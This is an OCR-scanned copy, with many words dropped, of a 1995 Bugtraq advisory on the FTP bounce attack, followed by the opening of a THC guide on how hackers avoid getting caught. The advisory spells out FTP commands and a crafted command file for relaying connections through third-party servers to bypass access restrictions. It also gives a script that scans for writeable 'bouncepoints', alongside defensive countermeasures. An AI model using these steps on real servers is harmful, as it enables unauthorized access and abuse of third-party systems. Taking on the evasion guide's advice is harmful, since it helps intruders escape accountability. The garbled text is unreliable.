Document Sample
ftpbounce Powered By Docstoc
                    Date:           Wed, 12 Jul 1995 02:20:20 -0400
From:           *Hobbit* <>
Subject:        The FTP Bounce Attack
To:             Multiple recipients of list BUGTRAQ<BUGTRAQ@CRIMELAB.COM>

This discusses one of many possible uses of the "FTP server bounce
The mechanism used is probably well-known, but to date interest in
or fixing it seems low to nonexistent. This particular example
yet another way in which most electronically enforced "export
restrictions" are
completely useless and trivial to bypass. It is chosen in an effort to
the reader sit up and notice that there are some really ill-conceived
of the standard FTP protocol.

Thanks also to Alain Knaff at for a brief but entertaining
of some of these issues a couple of months ago which got me thinking more
deeply about them.

The motive

You are a user on, IP address F.F.F.F, and want to retrieve
cryptographic source code from in the US. The FTP server at is set up to allow your connection, but deny access to the
sources because your source IP address is that of a non-US site [as near
their FTP server can determine from the DNS, that is]. In any case, you
cannot directly retrieve what you want from's server.

However, will allow to download crypto sourcesbecause is in the US too. You happen to know that /incoming on
is a world-writeable directory that any anonymous user can drop files
into and
read them back from.'s IP address is C.C.C.C.

The attack

This assumes you have an FTP server that does passive mode. Open an FTP
connection to your own machine's real IP address [not localhost] and log
Change to a convenient directory that you have write access to, and then

           quote "pasv"
        quote "stor foobar"

Take note of the address and port that are returned from the PASV
F,F,F,F,X,X. This FTP session will now hang, so background it or flip to
another window or something to proceed with the rest of this.

Construct a file containing FTP servercommands.   Let's call this file
"instrs". It will look like this:

        user ftp
        pass -anonymous@
        cwd /export-restricted-crypto
        type i
        port F,F,F,F,X,X
        retr crypto.tar.Z
        ^@^@^@^@^@^@^@^@^@^@^@^@^@^@^@^@^@^@^@^@^@^@^@ ... ^@^@^@^@^@^@^@^@^@^@^@^@^@^@^@^@^@^@^@^@^@^@^@^@^@^@^@ ... ^@^@^@^@

F,F,F,F,X,X is the same address and port that your own machine handed you
on the first connection. The trash at the end is extra lines you create,
each containing 250 NULLS and nothing else, enough to fill upabout 60K
extra data. The reason for this filler is explained later.

Open an FTP connection to, log in anonymously, and cd to
Now type the following into this FTP session, which transfers a copy of
"instrs" file over and then tells's FTP server to connect to's FTP server using your file as the commands:

        put instrs
        quote "port C,C,C,C,0,21"
        quote "retr instrs"

Crypto.tar.Z should now show up as "foobar" on your machine via your
first FTP
connection. If the connection to didn't die by itself due to
apparently common server bug, clean up by deleting "instrs" and exiting.
Otherwise you'll have to reconnect tofinish.


There are several variants of this. Your PASV listener connection can be
opened on any machine that you have file write access to -- your own,
connection to, or somewhere completely unrelated. In fact, it
not even have to be an FTP server -- any utility that will listen on a
TCP port and read raw data from it into a file will do. A passive-mode
data connection is simply a convenient way to do this.

The extra nulls at the end of the command file are to fill up the TCP
on either end of the ufred -> crypto connection, and ensure that the
connection stays open long enough for the whole session to be executed.
Otherwise, most FTP servers tend to abort all transfers and command
when the control connection closesprematurely. The size of the data is
to fill both the receive and transmit windows, which on some OSes are
large [on the order of 30K]. You can trim this down if you know what
are on either end and the sum of their default TCP window sizes. It is
into lines of 250 characters to avoid overrunning command buffers on the
server -- probably academic since you told the server to quit already.

If disallows *any* FTP client connection from you at and
you need to see what files are where, you can always put "list -aR" in
command file and get a directory listing of the entire tree via ufred.

You may have to retrieve your command file to the target's FTP server in
mode rather than binary mode. Some FTP servers can deal with raw
newlines, but
others may need command lines terminated by CRLF pairs. Keep this in
mind when
retrieving files to daemons other than FTP servers, as well.

Other possbilities

Despite the fact that such third-party connections are one-way only, they
can be used for all kinds of things. Similar methods can be used to post
virtually untraceable mail and news, hammer on servers at various sites,
up disks, try to hop firewalls, and generally be annoying and hard to
down at the same time. A little thought will bring realization of
other scary possibilities.

Connections launched this way come from source port 20, which some sites
through their firewalls in an effort to deal with the "ftp-data" problem.
some purposes, this can be the next best thing to source-routed attacks,
and is
likely to succeed where source routing fails against packet filters. And
all made possible by the way the FTP protocolspec was written, allowing
control connections to come from anywhere and data connections to go


There will always be sites on the net with creaky old FTP servers and
writeable directories that allow this sort of traffic, so saying "fix all
the FTP servers" is the wrong answer. But you can protectyour own
both being a third-party bouncepoint and having another one used against

The first obvious thing to do is allow an FTP server to only make data
connections to the same host that the control connection originated from.
This does not prevent the above attack, of course, since the PASV
could just as easily be on and thus meet that requirement, but
it does prevent *your* site from being a potential bouncepoint. It also
breaks the concept of "proxy FTP", but hidden somewhere in this paragraph
is a very tiny violin.

The next obvious thing is to prohibit FTP control connections that come
reserved ports, or at least port 20. This prevents the above scenario as

Both of these things, plus the usual poop about blocking source-routed
and other avenues of spoofery, are necessary to prevent hacks of this
And think about whether or not you really need an open "incoming"

Only allowing passive-mode client data connections is another
but there are still too many FTP clients in use that aren't passive-

"A loose consensus and running code"There is some existing work addressing this available here at
has been for several months, I might add] in the "fixkits archive".
mods to wu-ftpd-2.4 are presented, which includes code to prevent and log
attempts to use bogus PORT commands. Recent security fixes from
elsewhere are
also included, along with s/key support and various compile-time options
beef up security for specific applications.

Stan Barber at is working on merging these and several other
into a true updated wu-ftpd release. There are a couple of other
efforts going on. Nowhere is it claimed that any of this work is
complete yet,
but it is a start toward something I have had in mind for a while -- a
network-wide release of wu-ftpd-2.5, with contributions from around the
The wu-ftpd server has become very popular, but is in sad need of yet
security upgrade. It would be nice to pull all the improvements together
one coordinated place, and it looks like it will happen. All of this
won't help people who insist on running vendor-supplied servers, of

Sanity-checking the client connection's source port is not implemented
specifically in the FTP server fixes, but in modifications to Wietse's
tcp-wrappers package since this problem is more general. A simple PORT
is added that denies connections from configurable ranges of source ports
the tcpd stage, before a called daemon is executed.

Some of this is pointed to by /src/fixkits/README in the anonymous FTP
area here. Read this roadmap before grabbing other things.Adding the nulls at the end of the command file was the key to making
work against a variety of daemons. Simply sending the desired data would
usually fail due to the immediate close signaling the daemon to bail out.

If WUSTL has not given up entirely onthe whole wu-ftpd project, they are
keeping very quiet about further work. Bryan O'Connor appears to have
other projects to attend to by now...

This is a trivial script to find world-writeable and ftp-owned
directories and
files on a unix-based anonymous FTP server. You'd be surprised how many
those writeable "bouncepoints" pop out after a short run of something
this. You will have to later check that you can both PUT and GET files
such places; some servers protect uploaded files against reading. Many
do not,
and then wonder why they are among this week's top ten warez sites...

ftp -n $1 << FOE
quote "user ftp"
quote "pass -nobody@"
cd /
dir "-aR" xxx.$$
# Not smart enough to figure out ftp's numeric UID if no passwd file!
cat -v xxx.$$ | awk '
  BEGIN { idir = "/" ; dirp = 0 }
  /.:$/ { idir = $0 ; dirp = 1 ; }
  /^[-d][-r](......w.|........ *[0-9]* ftp *)/ {
     if (dirp == 1) print idir
     dirp = 0
     print $0
  } '
rm xxx.$$

I suppose one could call this a white paper. It is up for grabs atin /random/ftp-attack as well as being posted in various relevant places.

_H*   950712

Description: Author: van Hauser / THC I.INTRODUCTION II.MENTAL III.BASICS IV.ADVANCED V.UNDER SUSPECT VI.CAUGHT VII.PROGRAMS VIII.LAST WORDS I. INTRODUCTION Please excuse my poor english - I'm german so it's not my mother language I'm writing in. Anyway if your english is far better than mine, then don't think this text hasn't got anything to offer you. In contrast. Ignore the spelling errors & syntax - the contents of this document is important ... NOTE : This text is splitted into TWO parts. The first one, this, teaches about the background and theory. The second just shows the basics by an easy step-by-step procedure what to type and what to avoid. If you are too lazy to read this whole stuff here (sucker!) then read that one. It's main targets are novice unix hackers. If you think, getting the newest exploits fast is the most important thing you must think about and keep your eyes on - you are wrong. How does the best exploit helps you once the police has seized your computer, all your accounts closed and everything monitored? Not to mention the warrants etc. No, the most important thing is not to get caught. It is the FIRST thing every hacker should learn, because on many occasions, especially if you make your first hacks at a site which is security conscious because of many break-ins, your first hack can be your last one (even if all that lays back a year ago "they" may come up with that!), or you are too lazy to change your habits later in your career. So read through these sections carefully! Even a very skilled hacker can learn a bit or byte here. So this is what you find here: Section I - you are reading me, the introduction Section II - themental things and how to become paranoid 1. Motivation 2. Why you must become paranoid 3. How to become paranoid 4. Stay paranoidSection III - the basics you shouldknow BEFORE begin hacking 1. Preface 2. Secure Yourself